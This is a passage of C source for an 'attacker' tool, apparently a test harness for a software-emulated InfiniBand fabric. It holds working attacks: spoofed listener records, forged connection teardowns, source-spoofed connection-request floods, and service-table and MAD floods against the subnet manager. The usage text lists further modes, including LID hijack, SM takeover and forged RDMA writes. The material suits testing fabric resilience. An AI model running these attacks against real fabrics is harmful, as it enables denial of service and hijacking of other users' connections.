	snprintf((char *)q.ServiceName, sizeof(q.ServiceName), "softib address");
	ib_service_record_encode(&q, data);
	answered = sa_ask(sm, &r, me, IB_MAD_METHOD_SET, IB_SA_ATTR_SERVICE_RECORD,
			  IB_SR_COMP_SERVICE_ID | IB_SR_COMP_SERVICE_GID, data, sizeof(data));
	print_status("address record", answered, r.sa_status);
	/* A listener record for IP:TCPPORT, newer than any. */
	q.ServiceID = 0x0000000001060000ull | tcp_port; /* RDMA IP CM, TCP (IBA A11) */
	memset(q.ServiceName, 0, sizeof(q.ServiceName));
	snprintf((char *)q.ServiceName, sizeof(q.ServiceName), "softib rdma_cm");
	q.ServiceData64[0] = 1ull << 8; /* one address */
	q.ServiceData64[1] = UINT64_MAX >> 1;
	ib_service_record_encode(&q, data);
	answered = sa_ask(sm, &r, me, IB_MAD_METHOD_SET, IB_SA_ATTR_SERVICE_RECORD,
			  IB_SR_COMP_SERVICE_ID | IB_SR_COMP_SERVICE_GID, data, sizeof(data));
	print_status("listener record", answered, r.sa_status);
	fflush(stdout);
	while (now_ns() < end)
		listen_for(&r, 100);
	return 0;
}

static int cm_teardown(const struct sib_endpoint *target, char **v)
{
	uint16_t slid = (uint16_t)strtoul(v[0], NULL, 0), dlid = (uint16_t)strtoul(v[1], NULL, 0);
	uint32_t ccomm = (uint32_t)strtoul(v[2], NULL, 0), scomm = (uint32_t)strtoul(v[3], NULL, 0);
	uint8_t mad[IB_MAD_BYTES];
	struct ib_cm_dreq dreq;
	struct ib_cm_rej rej;
	struct sib_mad_addr a;
	struct rx r = { 0 };
	int sent = 0;

	sib_mad_addr_init(&a, SIB_QP1, dlid, slid);
	for (int i = 0; i < atoi(v[5]); i++) {
		cm_hdr(mad, IB_CM_ATTR_DREQ);
		memset(&dreq, 0, sizeof(dreq));
		dreq.LocalCommID = ccomm;
		dreq.RemoteCommID = scomm;
		dreq.RemoteQPN = (uint32_t)strtoul(v[4], NULL, 0);
		ib_cm_dreq_encode(&dreq, mad + IB_CM_DATA_OFFSET);
		sent += sib_mgmt_send(link_, &a, mad, target) == 0;
		cm_hdr(mad, IB_CM_ATTR_REJ);
		memset(&rej, 0, sizeof(rej));
		rej.LocalCommID = ccomm;
		rej.RemoteCommID = scomm;
		rej.MessageRejected = IB_CM_MSG_REP;
		rej.Reason = IB_CM_REJ_CONSUMER_DEFINED;
		ib_cm_rej_encode(&rej, mad + IB_CM_DATA_OFFSET);
		sent += sib_mgmt_send(link_, &a, mad, target) == 0;
		listen_for(&r, 20);
	}
	listen_for(&r, 1000);
	printf("sent: %d\nanswers: %d\n", sent, r.cm_stale + r.cm_other);
	return 0;
}

static int table_flood(const struct sib_endpoint *sm, int seconds)
{
	uint8_t data[IB_SERVICE_RECORD_BYTES];
	struct sib_endpoint_record me_rec;
	struct ib_service_record q;
	struct rx r = { 0 };
	uint16_t me = become_port(sm, &r);
	int records = 0, asked = 0, answers, refused;
	uint64_t end;

	if (!me || endpoint_of(sm, &r, me, me, &me_rec)) {
		printf("not configured\n");
		return 0;
	}
	memset(&q, 0, sizeof(q));
	memcpy(q.ServiceGID.raw, me_rec.GID, 16);
	q.ServiceP_Key = 0xffff;
	q.ServiceLease = 0xffffffffu;
	for (int i = 0; i < 1000; i++) {
		q.ServiceID = 0x0000f10d00000000ull | (uint64_t)i;
		snprintf((char *)q.ServiceName, sizeof(q.ServiceName), "flood %d", i);
		ib_service_record_encode(&q, data);
		if (!sa_ask(sm, &r, me, IB_MAD_METHOD_SET, IB_SA_ATTR_SERVICE_RECORD,
			    IB_SR_COMP_SERVICE_ID | IB_SR_COMP_SERVICE_GID, data, sizeof(data)) ||
		    r.sa_status)
			break;
		records++;
	}
	printf("records: %d\n", records);
	fflush(stdout);
	memset(data, 0, sizeof(data));
	r.sa_answers = r.sa_no_resources = 0;
	end = now_ns() + (uint64_t)seconds * 1000000000ull;
	while (now_ns() < end) {
		uint8_t mad[IB_MAD_BYTES];
		struct sib_mad_addr a;

		sa_mad(mad, IB_MAD_METHOD_GET_TABLE, IB_SA_ATTR_SERVICE_RECORD, 0, NULL, 0);
		sib_mad_addr_init(&a, SIB_QP1, SIB_SM_LID, me);
		asked += sib_mgmt_send(link_, &a, mad, sm) == 0;
		listen_for(&r, 1); /* answers counted, segments never ACKed */
	}
	listen_for(&r, 200);
	answers = r.sa_answers;
	refused = r.sa_no_resources;
	printf("asked: %d\nsegments: %d\nrefused: %d\n", asked, answers - refused, refused);
	return 0;
}

static int cm_flood(const struct sib_endpoint *target, char **v)
{
	uint16_t slid = (uint16_t)strtoul(v[0], NULL, 0), dlid = (uint16_t)strtoul(v[1], NULL, 0);
	uint64_t end = now_ns() + strtoull(v[3], NULL, 0) * 1000000000ull, sent = 0;
	uint64_t sid = strtoull(v[2], NULL, 0);
	uint8_t mad[IB_MAD_BYTES], pkt[512];
	struct sib_mad_addr a;
	struct rx r = { 0 };
	uint64_t start = now_ns(), rate = v[4] ? strtoull(v[4], NULL, 0) : 0, tried = 0;
	size_t len;

	while (now_ns() < end) {
		/* At RATE a second, the burst waits for its turn; one that is
		 * late (the machine is busy) does not catch up in a rush. */
		if (rate) {
			uint64_t due = start + tried * 1000000000ull / rate, t = now_ns();

			if (t > due + 10000000)
				start += t - due;
			else if (due > t)
				nanosleep(&(struct timespec){ .tv_sec = (time_t)((due - t) / 1000000000ull),
							      .tv_nsec = (long)((due - t) % 1000000000ull) },
					  NULL);
		}
		tried += 64;
		for (int i = 0; i < 64; i++) {
			uint16_t from = (i & 1) ? slid : (uint16_t)(2 + rand() % 0xbffd);

			forged_req(mad, sid, 0x02000000dead0000ull, (uint32_t)rand() & 0xffffff, from,
				   dlid);
			sib_mad_addr_init(&a, SIB_QP1, dlid, from);
			len = sib_mgmt_build(&a, mad, pkt, sizeof(pkt));
			sent += len && sib_link_send(link_, pkt, len, target) == 0;
		}
		sib_link_flush(link_);
		while (sib_link_poll(link_, 64, rx_cb, &r) > 0)
			;
	}
	listen_for(&r, 500);
	printf("sent: %llu\nanswers: %d\n", (unsigned long long)sent, r.cm_stale + r.cm_other);
	return 0;
}

static int mad_flood(const struct sib_endpoint *sm, int seconds)
{
	uint8_t data[SIB_ENDPOINT_RECORD_BYTES], mad[IB_MAD_BYTES];
	uint8_t pkt[2][512];
	size_t len[2];
	struct sib_endpoint_record me_rec;
	struct sib_mad_addr a;
	struct ib_smp smp;
	struct rx r = { 0 };
	uint16_t me = become_port(sm, &r);
	uint64_t end, sent = 0;

	if (!me) {
		printf("not configured\n");
		return 0;
	}
	printf("port: LID %u\n", me);
	fflush(stdout);
	memset(&me_rec, 0, sizeof(me_rec));
	me_rec.LID = me;
	sib_endpoint_record_encode(&me_rec, data);
	sa_mad(mad, IB_MAD_METHOD_GET, SIB_SA_ATTR_ENDPOINT_RECORD, SIB_EPR_COMP_LID, data,
	       sizeof(data));
	sib_mad_addr_init(&a, SIB_QP1, SIB_SM_LID, me);
	len[0] = sib_mgmt_build(&a, mad, pkt[0], sizeof(pkt[0]));
	smp_hdr(&smp, IB_MAD_METHOD_GET, IB_SMP_ATTR_SM_INFO, 0);
	ib_smp_encode(&smp, mad);
	sib_mad_addr_init(&a, SIB_QP0, SIB_SM_LID, me);
	len[1] = sib_mgmt_build(&a, mad, pkt[1], sizeof(pkt[1]));
	if (!len[0] || !len[1])
		return 1;
	/* The same two packets again and again: the SM parses each. */
	end = now_ns() + (uint64_t)seconds * 1000000000ull;
	while (now_ns() < end) {
		for (int i = 0; i < 64; i++)
			sent += sib_link_send(link_, pkt[i & 1], len[i & 1], sm) == 0;
		sib_link_flush(link_);
		while (sib_link_poll(link_, 64, rx_cb, &r) > 0) /* answers: nobody reads them */
			;
	}
	printf("sent: %llu\n", (unsigned long long)sent);
	return 0;
}

static int usage(void)
{
	fprintf(stderr, "usage: attacker set-lid TARGET LID [COUNT] [--m-key K]\n"
			"       attacker claim-sm TARGET SECONDS\n"
			"       attacker claim-guid SM GUID SECONDS\n"
			"       attacker forge-write TARGET SLID DLID QPN PSN VA RKEY LEN\n"
			"       attacker sa-lookup SM LID\n"
			"       attacker sa-delete SM LID SERVICEID\n"
			"       attacker sa-leave SM LID MGID\n"
			"       attacker cm-stale TARGET SLID DLID CAGUID SERVICEID QPN_FIRST "
			"QPN_LAST\n"
			"       attacker sa-claim-listener SM IP TCPPORT SECONDS\n"
			"       attacker cm-teardown TARGET SLID DLID CCOMM SCOMM SQPN COUNT\n"
			"       attacker table-flood SM SECONDS\n"
			"       attacker mad-flood SM SECONDS\n"
			"       attacker cm-flood TARGET SLID DLID SERVICEID SECONDS [RATE]\n");
	return 2;
}

int main(int argc, char **argv)
{
	struct sib_endpoint target;
	int rc;

	if (argc < 3 || sib_endpoint_parse(argv[2], 0, &target))
		return usage();
	if (sib_link_udp_open(getenv("SOFTIB_ADDR") ? getenv("SOFTIB_ADDR") : "127.0.0.1", NULL,
			      &link_))
		return 1;
	srand((unsigned)now_ns());
	if (getenv("ATTACKER_NODE")) {
		struct sib_cable_msg got;

		rc = sib_cable_attach(link_, argv[2], getenv("ATTACKER_NODE"), 5000, &got,
				      &fabric.sw);
		if (rc) {
			printf("cable: %s\n", rc == -ECONNREFUSED ? sib_cable_reason_str(got.reason)
								   : "no answer");
			return 1;
		}
		fabric.on = true;
		fabric.node_guid = got.node_guid;
		printf("cable: %s, switch port %u\n", got.id, got.switch_port);
	}
	if (!strcmp(argv[1], "set-lid") && argc >= 4) {
		uint64_t key = 0;
		int count = 10;

		for (int i = 4; i < argc; i++) {
			if (!strcmp(argv[i], "--m-key") && i + 1 < argc)
				key = strtoull(argv[++i], NULL, 0);
			else
				count = atoi(argv[i]);
		}
		rc = set_lid(&target, (uint16_t)strtoul(argv[3], NULL, 0), count, key);
	} else if (!strcmp(argv[1], "claim-sm") && argc == 4) {
		rc = claim_sm(&target, atoi(argv[3]));
	} else if (!strcmp(argv[1], "claim-guid") && argc == 5) {
		rc = claim_guid(&target, strtoull(argv[3], NULL, 0), atoi(argv[4]));
	} else if (!strcmp(argv[1], "forge-write") && argc == 10) {
		rc = forge_write(&target, argv + 3);
	} else if (!strcmp(argv[1], "sa-lookup") && argc == 4) {
		rc = sa_lookup(&target, (uint16_t)strtoul(argv[3], NULL, 0));
	} else if (!strcmp(argv[1], "sa-claim-listener") && argc == 6) {
		rc = sa_claim_listener(&target, argv[3], (uint16_t)atoi(argv[4]), atoi(argv[5]));
	} else if (!strcmp(argv[1], "cm-teardown") && argc == 9) {
		rc = cm_teardown(&target, argv + 3);
	} else if (!strcmp(argv[1], "cm-flood") && (argc == 7 || argc == 8)) {
		rc = cm_flood(&target, argv + 3);
	} else if (!strcmp(argv[1], "table-flood") && argc == 4) {
		rc = table_flood(&target, atoi(argv[3]));
	} else if (!strcmp(argv[1], "mad-flood") && argc == 4) {
		rc = mad_flood(&target, atoi(argv[3]));
	} else if (!strcmp(argv[1], "cm-stale") && argc == 9) {
		rc = cm_stale(&target, argv + 3);
	} else if (!strcmp(argv[1], "sa-leave") && argc == 5) {
		rc = sa_leave(&target, (uint16_t)strtoul(argv[3], NULL, 0), argv[4]);
	} else if (!strcmp(argv[1], "sa-delete") && argc == 5) {
		rc = sa_delete(&target, (uint16_t)strtoul(argv[3], NULL, 0),
			       strtoull(argv[4], NULL, 0));
	} else {
		rc = usage();
	}
	fflush(stdout);
	if (fabric.on)
		sib_cable_say(link_, &fabric.sw, SIB_CABLE_DETACH);
	sib_link_close(link_);
	return rc;
}
